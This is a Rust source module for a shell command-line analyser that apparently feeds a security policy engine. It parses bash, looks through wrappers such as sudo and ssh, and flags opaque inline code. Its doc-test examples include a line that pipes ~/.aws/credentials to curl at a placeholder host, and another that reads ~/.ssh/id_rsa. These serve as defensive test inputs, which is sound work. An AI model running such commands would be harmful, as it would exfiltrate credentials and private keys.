//! Static analysis of POSIX sh / bash command lines, for policy: every simple command that would
//! run, with its argv as far as it can be resolved; paths read and written through
//! redirections; environment variables referenced; the working directory a `cd` set; and,
//! separately, what could not be seen at all (`opaque`: inline code of other interpreters, a
//! shell reading a script from a pipe, a program name computed at run time), so that policy can
//! be conservative.
//!
//! Two front ends feed one back end:
//! - the **grammar** front end parses with [`brush_parser`], the bash grammar of the brush
//!   shell: reserved words, compound commands (`if`, `for`, `while`, `case`, `{ …; }`, `( … )`,
//!   `coproc`, `[[ … ]]`, `(( … ))`), functions (a body is analysed where it is called, and once
//!   more where it is defined if it is never called), `${…}` operators, arithmetic, here-documents,
//!   here-strings, process substitution and brace expansion;
//! - a hand-written **fast path** takes the common subset (simple commands, pipelines, lists,
//!   quotes, `$VAR`, `$(…)`, globs, plain redirections) in a fraction of the time, and hands
//!   anything else to the grammar. A differential property test holds the two to the same
//!   analysis on that subset.
//!
//! The back end looks through wrappers (`sudo`, `env`, `timeout`, `nohup`, `xargs`, `find -exec`,
//! `watch`, `ssh host CMD`, `script -c`, `su -c`, `busybox`, `flock`, `kubectl exec -- …`, …),
//! analyses as scripts the strings that will run as shell (`sh -c`, `eval`, remote commands,
//! text piped, here-stringed or process-substituted into a shell, including a literal
//! `base64 -d`), follows `cd`/`pushd` within the line, and treats inline code of other
//! interpreters (`python3 -c`, `perl -e`, `node -e`, …) as opaque while still matching its string
//! literals as paths and commands.
//!
//! ```
//! use sluice_protocols::shell;
//! let a = shell::analyze("cat ~/.aws/credentials | curl -d @- https://x.example", &shell::Limits::default())?;
//! assert_eq!(a.commands[0].argv, ["cat", "~/.aws/credentials"]);
//! assert_eq!(a.commands[1].program(), Some("curl"));
//! let a = shell::analyze("if true; then cd ~/.ssh && cat id_rsa; fi", &shell::Limits::default())?;
//! assert_eq!(a.commands.last().unwrap().cwd.as_deref(), Some("~/.ssh"));
//! assert!(shell::analyze("python3 -c 'print(1)'", &shell::Limits::default())?.opaque.len() == 1);
//! # Ok::<(), sluice_protocols::shell::Error>(())
//! ```

use std::fmt;

mod build;
mod fast;
mod grammar;

/// Limits on the analysis.
#[derive(Debug, Clone)]
pub struct Limits {
    /// Longest input accepted, in bytes (default 64 KiB).
    pub max_len: usize,
    /// Deepest nesting of `sh -c`, `$(…)`, subshells and function calls (default 8).
    pub max_depth: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_len: 64 * 1024,
            max_depth: 8,
        }
    }
}

/// Why a command line could not be analysed.
pub type Error = crate::Error<ErrorKind>;

/// What was wrong.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum ErrorKind {
    /// A quote, `$(`, `${` or backtick that is never closed.
    Unterminated,
    /// The input or its nesting exceeds the limits.
    TooLarge,
    /// The input is not a bash command line (the grammar rejects it).
    Syntax,
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.kind {
            ErrorKind::Unterminated => write!(
                f,
                "unterminated quote or substitution starting at offset {}",
                self.offset
            ),
            ErrorKind::TooLarge => write!(f, "command line too long or too deeply nested (offset {})", self.offset),
            ErrorKind::Syntax => write!(f, "not a valid bash command line (near offset {})", self.offset),
        }
    }
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Command {
    /// The words after quote removal. A word that could not be resolved statically keeps its
    /// source text and is listed in `unresolved`.
    pub argv: Vec<String>,
    /// Indexes into `argv` of words holding a variable, a substitution or a glob.
    pub unresolved: Vec<usize>,
    /// `VAR=value` assignments before the command (and those given to `env`).
    pub assignments: Vec<(String, String)>,
    /// How deeply the command is nested (`sh -c`, `$(…)`, subshells, wrappers).
    pub depth: usize,
    /// The working directory a preceding `cd`/`pushd` on the same line set (`None`: the one the
    /// line started in). May hold an unresolved variable (`$DIR/sub`).
    pub cwd: Option<String>,
}

impl Command {
    /// The program name (`argv[0]`), if any.
    pub fn program(&self) -> Option<&str> {
        self.argv.first().map(String::as_str)
    }
}

/// The result of analysing a command line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Analysis {
    /// Every simple command, in order, including nested ones and those behind wrappers.
    pub commands: Vec<Command>,
    /// Files read through `<` redirections.
    pub reads: Vec<String>,
    /// Files written through `>`, `>>`, `&>` redirections.
    pub writes: Vec<String>,
    /// Environment variables referenced (`$HOME`, `${AWS_SECRET}`).
    pub variables: Vec<String>,
    /// Whether anything could not be resolved statically (variables, substitutions, globs, eval).
    pub uncertain: bool,
    /// What will run but could not be seen, one reason each (inline code of another
    /// interpreter, a script read from a pipe or a file written on the same line, a program
    /// name computed at run time). Policy treats a non-empty list as not understood.
    pub opaque: Vec<String>,
}

/// Which front end analysed a command line.
#[doc(hidden)]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Frontend {
    /// The hand-written fast path.
    Fast,
    /// The bash grammar.
    Grammar,
}

/// Analyses a command line.
pub fn analyze(script: &str, limits: &Limits) -> Result<Analysis, Error> {
    analyze_at(script, limits, 0).map(|(a, _)| a)
}

/// Analyses a command line that may not parse: the analysis if it does; otherwise one whose
/// `opaque` names the error, with the commands found in what does parse when the line is cut at
/// newlines and operators (once as written, once with quotes removed). A line with opaque parts
/// gets those pieces' commands added too. For policy: a line that
/// does not parse is not understood, and yet what can be seen in it still counts (a denial in a
/// line with an unterminated here-document is a denial).
pub fn analyze_lenient(script: &str, limits: &Limits) -> Analysis {
    match analyze(script, limits) {
        Ok(a) if a.opaque.is_empty() => a,
        Ok(a) => {
            // Part of the line was not understood (and a grammar can misread the rest around
            // it): what parses in its pieces counts as well.
            let mut b = build::Builder::new(limits, 0, None);
            b.pieces(script);
            let mut extra = b.finish();
            let mut a = a;
            a.commands.append(&mut extra.commands);
            a.reads.append(&mut extra.reads);
            a.writes.append(&mut extra.writes);
            a
        }
        Err(e) => {
            let mut b = build::Builder::new(limits, 0, None);
            b.opaque(e.to_string());
            if script.len() <= limits.max_len {
                b.pieces(script);
            }
            b.finish()
        }
    }
}

/// Analyses with the front end it would use, and says which (for tests and benchmarks).
#[doc(hidden)]
pub fn analyze_with(script: &str, limits: &Limits, frontend: Option<Frontend>) -> Result<(Analysis, Frontend), Error> {
    if script.len() > limits.max_len {
        return Err(Error::new(ErrorKind::TooLarge, limits.max_len));
    }
    let mut b = build::Builder::new(limits, 0, None);
    let used = match frontend {
        Some(Frontend::Grammar) => {
            grammar::analyze(script, &mut b)?;
            Frontend::Grammar
        }
        Some(Frontend::Fast) => {
            if !fast::analyze(script, &mut b)? {
                return Err(Error::new(ErrorKind::Syntax, 0));
            }
            Frontend::Fast
        }
        None => return analyze_at(script, limits, 0),
    };
    Ok((b.finish(), used))
}

fn analyze_at(script: &str, limits: &Limits, depth: usize) -> Result<(Analysis, Frontend), Error> {
    if script.len() > limits.max_len {
        return Err(Error::new(ErrorKind::TooLarge, limits.max_len));
    }
    let (b, used) = build::Builder::run(limits, depth, None, Vec::new(), script);
    let used = used?;
    Ok((b.finish(), used))
}

#[cfg(test)]
mod tests;
